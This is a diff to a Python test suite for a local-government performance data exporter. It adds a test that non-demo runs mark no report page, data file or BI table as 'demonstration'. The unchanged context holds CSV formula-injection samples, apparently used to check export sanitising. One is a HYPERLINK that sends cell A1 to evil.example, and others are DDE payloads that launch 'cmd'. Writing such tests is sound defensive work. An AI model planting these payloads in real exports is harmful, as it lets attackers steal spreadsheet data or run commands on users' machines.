@@ -171,6 +171,18 @@ def test_personal_data_in_complaint_text_never_reaches_an_export(canary_runs, tr
     assert leaks == []
 
 
+def test_a_run_against_a_service_carries_no_demonstration_label(canary_runs, tried):
+    tried("a run against an LG Inform service (LGINFORM_BASE_URL set, the demo not asked for)",
+          "no report page, data package, Parquet file or BI table says 'demonstration'", "security")
+    folder = canary_runs["folder"] / "exports"
+    exported = [p for p in folder.rglob("*") if p.is_file() and p.parts[len(folder.parts)] in ("open-data", "bi", "report")]
+    assert len(exported) > 10
+    marked = [str(p) for p in exported if "demonstration" in text_of_file(p).lower()]
+    assert marked == []
+    with duckdb.connect(str(folder / "bi" / "lgperf_marts.duckdb"), read_only=True) as bi:
+        assert "demonstration_data" not in dict(bi.execute("SELECT key, value FROM main.about").fetchall())
+
+
 CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
